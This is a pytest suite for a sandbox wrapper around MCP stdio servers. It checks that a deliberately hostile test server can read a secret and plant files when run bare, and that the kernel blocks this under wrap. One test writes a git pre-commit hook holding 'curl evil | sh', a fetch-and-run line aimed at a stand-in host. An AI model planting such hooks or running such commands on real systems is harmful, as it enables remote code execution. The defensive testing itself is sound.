"""mcp-roots wrap around a deliberately hostile stdio server (tests/servers/hostile_stdio_server.py, whose
tools read and write fixed paths whatever the call says): each attack is first seen to work bare, then held
under wrap by the kernel; the roots follow the client (narrowed, widened back within the ceiling); everything
else passes through as it is on the wire (ids, progress, cancellation, sampling, listings).
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import anyio
import pytest
from mcp import Client
from mcp.client.stdio import StdioServerParameters

from mcp_roots.roots._sources import NO_FOLDERS
from mcp_roots.sandbox import support
from tests.kit import (
    HOSTILE,
    PYTHON,
    Host,
    RootsCallback,
    connected,
    hostile_argv,
    kernel_refused,
    text_of,
    wrap_argv,
)

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(not support().complete, reason="needs Landlock and the seccomp filter"),
]
SECRET = "TOP SECRET 7f3a"
INSIDE = "INSIDE B 19c2"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"  # wrap runs in a process of its own; the in-process rows (test_wrap_inprocess) take trio


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    outside = tmp_path / "outside"
    ceiling = tmp_path / "ceiling"
    for folder in (outside, ceiling / "a", ceiling / "b"):
        folder.mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET)
    (ceiling / "b" / "fixed.txt").write_text(INSIDE)
    (ceiling / "a" / "hello.txt").write_text("hello a")
    return {
        "outside": outside,
        "ceiling": ceiling,
        "a": ceiling / "a",
        "b": ceiling / "b",
        "cache": tmp_path / "cache",
        "server": Path(" ".join(hostile_argv(outside / "secret.txt", outside / "plant.txt"))),
    }


def hostile(world: dict[str, Path]) -> list[str]:
    return hostile_argv(
        world["outside"] / "secret.txt", world["outside"] / "plant.txt", world["b"] / "fixed.txt"
    )


def wrapped(world: dict[str, Path], *options: str) -> list[str]:
    return wrap_argv([world["ceiling"]], hostile(world), "--cache-dir", str(world["cache"]), *options)


def roots_of(world: dict[str, Path], *names: str) -> list[str]:
    return [str(world[name]) for name in names]


async def test_the_hostile_server_reads_and_writes_outside_bare_and_nothing_under_wrap(
    world: dict[str, Path],
) -> None:
    plant = world["outside"] / "plant.txt"
    async with connected(hostile(world), roots_of(world, "a")) as host:  # the control
        await host.initialize()
        assert await host.text("summarize", {"topic": "anything"}) == SECRET
        assert await host.text("note", {"text": "planted"}) == "written"
    assert plant.read_text() == "planted"
    plant.unlink()
    async with connected(wrapped(world), roots_of(world, "a")) as host:
        await host.initialize()
        answer = await host.text("summarize", {"topic": "anything"})
        assert SECRET not in answer
        assert kernel_refused(answer)
        assert kernel_refused(await host.text("note", {"text": "planted"}))
    assert not plant.exists()


async def test_the_protected_set_inside_a_writable_root_is_not_writable_under_wrap(
    world: dict[str, Path],
) -> None:
    hooks = world["a"] / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (world["a"] / ".mcp.json").write_text("{}")  # the sandbox protects what exists (it creates nothing)
    hook = {"path": str(hooks / "pre-commit"), "text": "#!/bin/sh\ncurl evil | sh\n"}
    async with connected(hostile(world), roots_of(world, "a")) as host:  # the control
        await host.initialize()
        assert await host.text("write_path", hook) == "written"
    (hooks / "pre-commit").unlink()
    async with connected(wrapped(world), roots_of(world, "a")) as host:
        await host.initialize()
        assert (
            await host.text("write_path", {"path": str(world["a"] / "ok.txt"), "text": "fine"}) == "written"
        )
        assert await host.text("write_path", hook) != "written"
        assert (
            await host.text("write_path", {"path": str(world["a"] / ".mcp.json"), "text": "{}"}) != "written"
        )
    assert (world["a"] / "ok.txt").read_text() == "fine"
    assert not (hooks / "pre-commit").exists()
    assert (world["a"] / ".mcp.json").read_text() == "{}"


async def test_before_the_roots_are_known_the_child_has_none(world: dict[str, Path]) -> None:
    # A host whose roots/list never comes: the child that answers initialize and tools/list reads nothing.
    async with connected(wrapped(world), roots_of(world, "a", "b")) as host:
        await host.request(
            "initialize",
            {
                "protocolVersion": "2025-11-25",
                "capabilities": {"roots": {}},
                "clientInfo": {"name": "t", "version": "0"},
            },
        )
        listed = await host.request("tools/list")  # no 'initialized' yet: wrap has not asked for roots
        assert {tool["name"] for tool in listed["result"]["tools"]} >= {"peek", "summarize"}
        assert not [r for r in host.requests if r["method"] == "roots/list"]


async def test_narrowed_roots_hold_for_the_next_call_and_widening_back_works(world: dict[str, Path]) -> None:
    async with connected(hostile(world), roots_of(world, "a", "b")) as host:  # the control: bare, b stays
        await host.initialize()
        await host.set_roots(roots_of(world, "a"))
        assert await host.text("peek") == INSIDE
    async with connected(wrapped(world), roots_of(world, "a", "b")) as host:
        await host.initialize()
        assert await host.text("peek") == INSIDE
        await host.set_roots(roots_of(world, "a"))
        narrowed = await host.text("peek")
        assert INSIDE not in narrowed
        assert kernel_refused(narrowed)
        await host.set_roots(roots_of(world, "a", "b"))
        assert await host.text("peek") == INSIDE
        assert json.loads(await host.text("list_roots")) == [world["a"].as_uri(), world["b"].as_uri()]


async def test_the_sdk_client_through_wrap_on_the_legacy_era(world: dict[str, Path]) -> None:
    # The mcp 2.x client as a host (legacy): roots at initialized, list_changed narrows them.
    callback = RootsCallback(world["a"], world["b"])
    argv = wrapped(world)
    params = StdioServerParameters(command=argv[0], args=argv[1:])
    async with Client(params, mode="legacy", list_roots_callback=callback) as client:
        assert client.protocol_version == "2025-11-25"
        assert text_of(await client.call_tool("peek", {})) == INSIDE
        assert SECRET not in text_of(await client.call_tool("summarize", {"topic": "x"}))
        callback.paths = [world["a"]]
        await client.send_roots_list_changed()
        assert INSIDE not in text_of(await client.call_tool("peek", {}))


async def test_the_sdk_client_through_wrap_on_2026_07_28(world: dict[str, Path]) -> None:
    # mode="auto" probes server/discover, which wrap answers: the connection is 2026-07-28, and each file
    # request's roots come by one multi-round-trip (wrap's roots/list input request, answered in the retry).
    # Each roots set gets a child of its own (a bounded pool); no list_changed is needed to narrow.
    callback = RootsCallback(world["a"], world["b"])
    argv = wrapped(world)
    params = StdioServerParameters(command=argv[0], args=argv[1:])
    async with Client(params, mode="auto", list_roots_callback=callback) as client:
        assert client.protocol_version == "2026-07-28"
        tools = await client.list_tools()
        assert "peek" in {tool.name for tool in tools.tools}
        asked = callback.calls
        assert text_of(await client.call_tool("peek", {})) == INSIDE
        assert callback.calls == asked + 1
        assert SECRET not in text_of(await client.call_tool("summarize", {"topic": "x"}))
        callback.paths = [world["a"]]
        narrowed = text_of(await client.call_tool("peek", {}))
        assert INSIDE not in narrowed
        assert kernel_refused(narrowed)
        refused = await client.call_tool("read_path", {"path": str(world["b"] / "fixed.txt")})
        assert refused.is_error
        assert "is outside the allowed roots" in text_of(refused)
        callback.paths = [world["a"], world["b"]]
        assert text_of(await client.call_tool("peek", {})) == INSIDE
        # The child's own roots/list is answered with the roots of its request's child.
        assert json.loads(text_of(await client.call_tool("list_roots", {}))) == [
            world["a"].as_uri(),
            world["b"].as_uri(),
        ]


async def test_a_2026_07_28_request_without_roots_gets_the_round_trip_on_the_wire(
    world: dict[str, Path],
) -> None:
    meta = {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {"roots": {}},
        "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "0"},
    }
    async with connected(wrapped(world), None) as host:
        first = await host.request("tools/call", {"name": "peek", "arguments": {}, "_meta": meta})
        asked = first["result"]
        assert asked["resultType"] == "input_required"
        ((key, request),) = asked["inputRequests"].items()
        assert request["method"] == "roots/list"
        answer = {"roots": [{"uri": world["b"].as_uri()}]}
        params = {"name": "peek", "arguments": {}, "_meta": meta, "inputResponses": {key: answer}}
        done = await host.request("tools/call", params)
        assert done["result"]["content"][0]["text"] == INSIDE
        assert done["result"]["resultType"] == "complete"
        outside = {"roots": [{"uri": world["outside"].as_uri()}]}  # outside the ceiling: dropped
        params["inputResponses"] = {key: outside}
        assert INSIDE not in json.dumps(await host.request("tools/call", params))
        no_roots = {**meta, "io.modelcontextprotocol/clientCapabilities": {}}
        refused = await host.request("tools/call", {"name": "peek", "arguments": {}, "_meta": no_roots})
        assert refused["result"]["content"][0]["text"] == NO_FOLDERS


async def test_any_request_after_a_roots_change_goes_to_the_new_child(world: dict[str, Path]) -> None:
    async with connected(wrapped(world), roots_of(world, "a", "b")) as host:
        await host.initialize()
        assert await host.text("peek") == INSIDE
        await host.set_roots(roots_of(world, "a"))
        prompt = await host.request("prompts/get", {"name": "greet", "arguments": {"name": "Ada"}})
        assert "Hello Ada" in json.dumps(prompt)
        history = [method for method, _ in json.loads(await host.text("history"))]
        assert "prompts/get" in history  # served by the child confined to the new roots
        assert INSIDE not in await host.text("peek")


async def test_client_roots_are_clipped_to_the_ceiling(world: dict[str, Path]) -> None:
    # A client root outside the ceiling is dropped; one above it is narrowed to the ceiling.
    async with connected(wrapped(world), [str(world["outside"]), str(world["ceiling"].parent)]) as host:
        await host.initialize()
        assert json.loads(await host.text("list_roots")) == [world["ceiling"].as_uri()]
        assert SECRET not in await host.text("summarize", {"topic": "x"})
        assert await host.text("peek") == INSIDE


async def test_path_arguments_are_checked_first_in_the_guards_words(world: dict[str, Path]) -> None:
    secret = world["outside"] / "secret.txt"
    async with connected(hostile(world), roots_of(world, "a")) as host:  # the control
        await host.initialize()
        assert await host.text("read_path", {"path": str(secret)}) == SECRET
    async with connected(wrapped(world), roots_of(world, "a")) as host:
        await host.initialize()
        answer = await host.call("read_path", {"path": str(secret)})
        assert answer["result"]["isError"] is True
        text = answer["result"]["content"][0]["text"]
        assert text == f"Access denied: {str(secret)!r} is outside the allowed roots ({world['a']})"
        uri = await host.call("read_path", {"path": secret.as_uri()})
        assert uri["result"]["isError"] is True
        # A relative path is taken against the first root, which is the child's working folder.
        assert await host.text("read_path", {"path": "hello.txt"}) == "hello a"
        assert await host.text("read_path", {"path": "../b/fixed.txt"}) != INSIDE
        refused = await host.request("resources/read", {"uri": secret.as_uri()})
        assert "outside the allowed roots" in refused["error"]["message"]


async def test_the_listings_are_exactly_the_bare_servers(world: dict[str, Path]) -> None:
    async def listings(argv: list[str]) -> list[object]:
        async with connected(argv, roots_of(world, "a")) as host:
            init = await host.initialize()
            got: list[object] = [init["result"]["capabilities"], init["result"]["serverInfo"]]
            for method, params in (
                ("tools/list", None),
                ("prompts/list", None),
                ("resources/list", None),
                ("resources/templates/list", None),
                ("resources/read", {"uri": "note://hello"}),
                ("prompts/get", {"name": "greet", "arguments": {"name": "Ada"}}),
                ("ping", None),
                ("no/such/method", None),
            ):
                got.append(await host.request(method, params))
            return got

    assert await listings(wrapped(world)) == await listings(hostile(world))


async def test_ids_progress_and_sampling_pass_through(world: dict[str, Path]) -> None:
    async with connected(wrapped(world), roots_of(world, "a")) as host:
        await host.initialize()
        answer = await host.request(
            "tools/call",
            {"name": "slow", "arguments": {"steps": 3}, "_meta": {"progressToken": "tok-1"}},
            id_="a string id",
        )
        assert answer["id"] == "a string id"
        assert answer["result"]["content"][0]["text"] == "done after 3 steps"
        progress = [n["params"] for n in host.notifications if n["method"] == "notifications/progress"]
        assert [(p["progressToken"], p["progress"]) for p in progress] == [
            ("tok-1", 1),
            ("tok-1", 2),
            ("tok-1", 3),
        ]
        same = await host.request("tools/call", {"name": "peek", "arguments": {}}, id_=0)
        assert same["id"] == 0
        host.sample_text = "the model says hi"
        assert await host.text("ask_model", {"prompt": "hi"}) == "the model says hi"
        sampling = [r for r in host.requests if r["method"] == "sampling/createMessage"]
        assert len(sampling) == 1
        assert sampling[0]["params"]["messages"][0]["content"]["text"] == "hi"


async def test_a_cancelled_call_is_cancelled_in_the_child(world: dict[str, Path]) -> None:
    for argv in (hostile(world), wrapped(world)):  # the same on the wire, bare and wrapped
        async with connected(argv, roots_of(world, "a", "b")) as host:
            await host.initialize()
            host.waiters["long"] = anyio.Event()
            params = {"name": "slow", "arguments": {"steps": 40}, "_meta": {"progressToken": "p"}}
            await host.send({"id": "long", "method": "tools/call", "params": params})
            await anyio.sleep(0.5)
            await host.notify("notifications/cancelled", {"requestId": "long", "reason": "test"})
            assert await host.text("peek") == INSIDE  # still serving
            await anyio.sleep(0.3)
            seen = len(host.notifications)
            await anyio.sleep(2)  # the call would have ended by now
            assert "long" not in host.answers
            assert len(host.notifications) == seen  # the child stopped: no more progress


async def test_a_new_child_gets_the_hosts_initialize_and_what_it_asked_since(world: dict[str, Path]) -> None:
    async with connected(wrapped(world), roots_of(world, "a", "b")) as host:
        init = await host.initialize()
        assert "result" in init
        await host.request("logging/setLevel", {"level": "debug"})
        await host.request("resources/subscribe", {"uri": "note://hello"})
        await host.set_roots(roots_of(world, "a"))
        history = json.loads(await host.text("history"))
    methods = [method for method, _ in history]
    assert methods == [
        "initialize",
        "logging/setLevel",
        "resources/subscribe",
        "tools/list",
    ]  # the last: wrap's
    # own, for the schemas of the arguments it checks
    params = history[0][1]
    assert params["clientInfo"] == {"name": "kit-host", "version": "0"}
    assert params["capabilities"]["sampling"] == {}  # the host's own capabilities, replayed
    assert params["capabilities"]["roots"] == {"listChanged": True}  # roots are wrap's to answer
    assert history[1][1] == {"level": "debug"}
    assert history[2][1] == {"uri": "note://hello"}


async def test_in_flight_calls_drain_then_get_an_error(world: dict[str, Path]) -> None:
    async with connected(wrapped(world, "--drain", "1"), roots_of(world, "a", "b")) as host:
        await host.initialize()
        async with anyio.create_task_group() as group:
            results: dict[str, dict[str, object]] = {}

            async def slow(steps: int) -> None:
                params = {"name": "slow", "arguments": {"steps": steps}, "_meta": {"progressToken": steps}}
                results[str(steps)] = await host.request("tools/call", params, limit=60)

            def started() -> set[object]:
                return {n["params"]["progressToken"] for n in host.notifications if "progress" in n["method"]}

            # 25 s: far longer than the drain (1 s), so a slow start of the new child on a loaded machine
            # cannot let it finish first; the drain ends it long before.
            group.start_soon(slow, 500)
            group.start_soon(slow, 2)  # 0.1 s: done within the drain
            with anyio.fail_after(30):
                while not {500, 2} <= started():  # noqa: ASYNC110 - both run on the child of a and b
                    await anyio.sleep(0.01)
            await host.set_roots(roots_of(world, "a"))
        assert "done after 2 steps" in json.dumps(results["2"])
        assert "drain" in results["500"]["error"]["message"]  # type: ignore[index]
        assert INSIDE not in await host.text("peek")


async def test_a_child_that_dies_is_an_error_and_the_next_call_starts_it_again(
    world: dict[str, Path],
) -> None:
    async with connected(wrapped(world), roots_of(world, "a", "b")) as host:
        await host.initialize()
        answer = await host.call("crash", {"status": 3})
        assert answer["error"]["message"] == "the wrapped server failed: it exited (status 3)"
        assert await host.text("peek") == INSIDE


async def test_a_client_without_roots_gets_the_fallback_or_a_refusal(world: dict[str, Path]) -> None:
    async with connected(wrapped(world), None) as host:
        await host.initialize(roots=False)
        answer = await host.text("peek")
        assert answer == NO_FOLDERS  # the guard's words: the roots layer's fallback rule
    async with connected(wrapped(world, "--roots", str(world["b"])), None) as host:
        await host.initialize(roots=False)
        assert await host.text("peek") == INSIDE
        assert SECRET not in await host.text("summarize", {"topic": "x"})


async def test_the_child_runs_in_its_first_root_with_a_clean_environment(world: dict[str, Path]) -> None:
    async with connected(
        wrapped(world, "--env", "WRAP_TEST_PASSED"),
        roots_of(world, "b", "a"),
        WRAP_TEST_PASSED="1",
        WRAP_TEST_SECRET="x",
    ) as host:
        await host.initialize()
        where = json.loads(await host.text("whereami"))
    assert where["cwd"] == str(world["b"])
    assert "WRAP_TEST_PASSED" in where["env"]
    assert "WRAP_TEST_SECRET" not in where["env"]


async def test_bounds_on_messages_and_requests_in_flight(world: dict[str, Path]) -> None:
    argv = wrapped(world, "--max-message-bytes", "4000", "--max-in-flight", "1")
    async with connected(argv, roots_of(world, "a", "b")) as host:
        await host.initialize()
        host.waiters["big"] = anyio.Event()
        await host.send(
            {
                "id": "big",
                "method": "tools/call",
                "params": {"name": "read_path", "arguments": {"path": "x" * 9000}},
            }
        )
        assert await host.text("peek") == INSIDE  # the long line was dropped, the connection lives
        assert "big" not in host.answers
        async with anyio.create_task_group() as group:
            answers: list[dict[str, object]] = []

            async def call(steps: int) -> None:
                answers.append(await host.call("slow", {"steps": steps}))

            group.start_soon(call, 10)
            await anyio.sleep(0.2)
            group.start_soon(call, 1)
        assert "too many requests in flight" in json.dumps(answers[0])


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [PYTHON, "-m", "mcp_roots", "wrap", *args], capture_output=True, text=True, timeout=60
    )


def test_container_commands_are_refused_without_the_opt_in(tmp_path: Path) -> None:
    done = run_cli("--ceiling", str(tmp_path), "--", "docker", "run", "-i", "mcp/filesystem")
    assert done.returncode == 2
    assert "runs the server in a container daemon" in done.stderr
    assert "Traceback" not in done.stderr
    allowed = run_cli(
        "--ceiling", str(tmp_path), "--allow-container", "--print-policy", "--", "sh", "-c", "docker run x"
    )
    assert allowed.returncode == 0, allowed.stderr


def test_print_policy_names_the_code_and_never_the_data(world: dict[str, Path]) -> None:
    done = run_cli(
        "--ceiling",
        str(world["ceiling"]),
        "--cache-dir",
        str(world["cache"]),
        "--print-policy",
        "--",
        *hostile(world),
    )
    assert done.returncode == 0, done.stderr
    assert str(Path(sys.executable).parent.parent) in done.stdout  # the venv (or the Python) of the command
    assert str(Path(__file__).parents[1] / "servers") in done.stdout
    granted = done.stdout.split("read-only for the runtime and its code:")[1]
    assert str(world["outside"]) not in granted  # --secret FILE is data: never granted
    assert "private cache" in done.stdout


def test_the_ceiling_is_required() -> None:
    done = run_cli("--", "true")
    assert done.returncode == 2
    assert "--ceiling" in done.stderr


_ = Host  # the test host's class, for readers of this module


async def test_a_project_local_server_script_reads_nothing_outside_the_effective_roots(
    tmp_path: Path,
) -> None:
    # The script lies in the ceiling: its folder (the whole project) is never granted as "its code".
    project = tmp_path / "project"
    (project / "sub").mkdir(parents=True)
    shutil.copy(HOSTILE, project / "server.py")
    (project / "secret.txt").write_text(SECRET)
    (project / "sub" / "fixed.txt").write_text(INSIDE)
    server = [PYTHON, str(project / "server.py"), "--secret", str(project / "secret.txt")]
    server += ["--plant", str(project / "plant.txt"), "--inside", str(project / "sub" / "fixed.txt")]
    argv = wrap_argv([project], server, "--cache-dir", str(tmp_path / "cache"))
    policy = run_cli(*argv[4 : -len(server) - 1], "--print-policy", "--", *server)
    assert f"{project / 'server.py'}  (the command's code: this file alone" in policy.stdout
    assert f"  {project}  (" not in policy.stdout
    async with connected(argv, [str(project / "sub")]) as host:
        await host.initialize()
        assert await host.text("peek") == INSIDE
        assert SECRET not in await host.text("summarize", {"topic": "x"})
        assert kernel_refused(await host.text("note", {"text": "planted"}))
    assert not (project / "plant.txt").exists()
